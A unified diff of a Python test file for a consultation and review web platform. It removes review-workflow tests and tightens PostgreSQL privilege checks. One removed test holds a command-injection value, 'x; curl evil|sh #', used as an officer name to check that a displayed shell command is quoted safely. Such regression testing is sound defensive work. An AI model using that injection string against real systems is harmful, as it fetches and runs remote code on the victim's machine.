@@ -17,22 +17,22 @@ from tests.rigs.logins import Logins, plain
 pytest.importorskip("flask_wtf")
 pytest.importorskip("babel")
 
-from examples.platform import town
 from examples.platform.web import office, store
-from examples.platform.web.maps import picture
+from pages.maps import picture
 from tests.examples.platform.drafting import publish, write
-from tests.examples.platform.inside import AT_HOME, NEAR_BORDER, Town, opened
+from tests.examples.platform.inside import AT_HOME, Town, opened
 from tests.examples.stacks.runtimes import EXAMPLES
 
 pytestmark = pytest.mark.stacks
 
+DECIDE = "jurat_decide(check_id => gen_random_uuid(), reason => 'person_accepted', by_whom => 'rhea')"
+
 
 def test_only_the_office_sees_its_pages(valmont: Town) -> None:
-    for name, desk, reviews in (("ada", 403, 403), ("rhea", 403, 200), ("omar", 200, 200)):
+    for name, desk in (("ada", 403), ("rhea", 403), ("omar", 200)):
         browser = valmont.browser(name)
         for path in ("", "codes/", "consultations/budget"):
             browser.get(f"/en/office/{path}", desk)
-        browser.get("/en/reviews/", reviews)
     assert valmont.app.test_client().get("/en/office/").status_code == 302
 
 
@@ -133,78 +133,6 @@ def test_a_list_is_chosen_or_new(valmont: Town) -> None:
     assert '<a href="#list">' in valmont.browser("omar").post("/en/office/codes/", form, 422)
 
 
-def test_a_reviewer_decides_and_learns_what_came_of_it(valmont: Town) -> None:
-    rhea, check = valmont.browser("rhea"), valmont.answer("residence", NEAR_BORDER, "p-near")
-    queue = rhea.get("/en/reviews/")
-    assert "the address is too close to the border" in queue
-    page = rhea.get(f"/en/reviews/{check}")
-    assert "Distance to the border" in page
-    assert f"bin/jurat review show {check} --answer --as rhea" in page
-    assert re.search(r'<path d="[^"]+" fill-rule="evenodd" class="marked"/>', page)
-    assert "Vieille Ville" in page
-    assert "p-near" not in queue + page
-    assert '<a href="#reason">' in rhea.post(f"/en/reviews/{check}", {"reason": "too_young"}, 422)
-    confirm = rhea.post(f"/en/reviews/{check}", {"reason": "outside_zone"}, 200)
-    asked = re.search(r'name="id" value="([^"]+)"', confirm)
-    assert asked is not None
-    assert valmont.client.result(check).state == "review", "nothing is decided before it is confirmed"
-    said = rhea.post(f"/en/reviews/{check}", {"reason": "outside_zone", "id": asked[1]})
-    assert "it is outside the area" in rhea.until(said, "decided")
-    assert valmont.client.result(check).reason == "outside_zone"
-
-    gone = rhea.get(f"/en/reviews/{check}")
-    assert "There is nothing left to decide" in gone
-    said = rhea.post(f"/en/reviews/{check}/open", {"id": str(uuid4())})
-    assert "The current decision applies until there is a new one." in rhea.until(said, "review reopened")
-
-
-def test_under_four_eyes_a_second_person_sees_what_the_first_said(valmont: Town) -> None:
-    home = {
-        "criterion": "lives-in",
-        "with": {"zone": "old-town"},
-        "on_undetermined": "review",
-        "title": {"en": "Home?"},
-    }
-    rhea, omar = valmont.browser("rhea"), valmont.browser("omar")
-    with valmont.engine.begin() as connection:
-        document = {"title": {"en": "Two persons"}, "four_eyes": True, "questions": {"home": home}}
-        valmont.client.publish_consultation(connection, "two", document, by="omar")
-    omar.until("/en/office/consultations/two", "can take part now")
-    page = f"/en/reviews/{valmont.answer('home', NEAR_BORDER, consultation='two')}"
-    said = rhea.post(page, {"reason": "outside_zone", "id": str(uuid4())})
-    rhea.until(said, "Your decision is recorded.")
-    assert "waiting for a second person" in rhea.get("/en/reviews/")
-    assert "You have given your decision." in rhea.get(page)
-    assert "rhea: the address is outside the area" in omar.get(page)
-    said = omar.post(page, {"reason": "outside_zone", "id": str(uuid4())})
-    omar.until(said, "decided")
-
-
-def test_who_comes_second_is_reported_that_somebody_was_faster(valmont: Town) -> None:
-    rhea, check = valmont.browser("rhea"), valmont.answer("residence", NEAR_BORDER, "p-fast")
-    first, second = str(uuid4()), str(uuid4())
-    said = rhea.post(f"/en/reviews/{check}", {"reason": "person_accepted", "id": first})
-    rhea.until(said, "decided")
-    with valmont.engine.begin() as connection:  # sent at the same moment, and applied after the other
-        connection.exec_driver_sql(
-            "INSERT INTO jurat_requests (id, kind, check_id, reason, by_whom, asked_at) VALUES "
-            "(?, 'decide', ?, 'person_refused', 'omar', strftime('%Y-%m-%d %H:%M:%f', 'now'))",
-            (second, str(check)),
-        )
-    valmont.wake()
-    page = valmont.browser("omar").until(f"/en/reviews/{check}/said/{second}", "not carried out")
-    assert "Someone else decided first" in page
-
-
-@pytest.mark.slow
-def test_a_command_to_copy_runs_nothing_that_stands_in_a_name(valmont: Town) -> None:
-    name = "x; curl evil|sh #"
-    with valmont.engine.begin() as connection:
-        store.add_officer(connection, name, store.hashed(town.PASSWORD), store.REVIEWER)
-    check = valmont.answer("residence", NEAR_BORDER, "p-quoted")
-    assert f"review show {check} --answer --as '{name}'</code>" in valmont.browser(name).get(f"/en/reviews/{check}")
-
-
 def test_on_postgresql_the_office_needs_the_rights_that_stand_in_its_page(postgresql_url: str, tmp_path: Path) -> None:
     with Logins(postgresql_url) as logins:
         visitors, desk = logins.url("jurat_platform"), logins.url()
@@ -219,9 +147,8 @@ def test_on_postgresql_the_office_needs_the_rights_that_stand_in_its_page(postgr
                 connection.exec_driver_sql(f"{granted} TO {names[desk]}")
         owner.dispose()
         with opened(postgresql_url, tmp_path, visitors, desk) as valmont:
-            check = valmont.answer("residence", NEAR_BORDER)
             omar = valmont.browser("omar")
-            for path in ("office/", "office/consultations/budget", "office/codes/", "reviews/", f"reviews/{check}"):
+            for path in ("office/", "office/consultations/budget", "office/codes/"):
                 omar.get(f"/en/{path}")
             there = publish(omar, write(omar))
             omar.until(there, "People who meet its criteria can take part now.")
@@ -236,15 +163,9 @@ def test_on_postgresql_the_office_needs_the_rights_that_stand_in_its_page(postgr
                 omar.until(f"/en/office/codes/requests/{request_id[1]}", "These codes are valid")
             else:
                 assert "These codes are valid" in made
-            said = omar.post(f"/en/reviews/{check}", {"reason": "person_accepted", "id": str(uuid4())})
-            omar.until(said, "decided")
-            late = omar.post(f"/en/reviews/{check}", {"reason": "person_accepted", "id": str(uuid4())}, 200)
-            assert "There is nothing left to decide" in late
-            omar.until(omar.post(f"/en/reviews/{check}/open", {"id": str(uuid4())}), "review reopened")
-            assert omar.post(f"/en/reviews/{check}/open", {"id": str(uuid4())}) == "/en/reviews/"
-            assert "Someone else has decided" in omar.get("/en/reviews/")
-            with plain(desk) as connection, pytest.raises(InsufficientPrivilege):
-                connection.execute("SELECT answer FROM jurat_checks")
+            for statement in ("SELECT answer FROM jurat_checks", f"SELECT {DECIDE}"):
+                with plain(desk) as connection, pytest.raises(InsufficientPrivilege):
+                    connection.execute(statement.encode())
 
 
 def test_a_map_is_as_wide_as_it_is_on_the_ground() -> None:
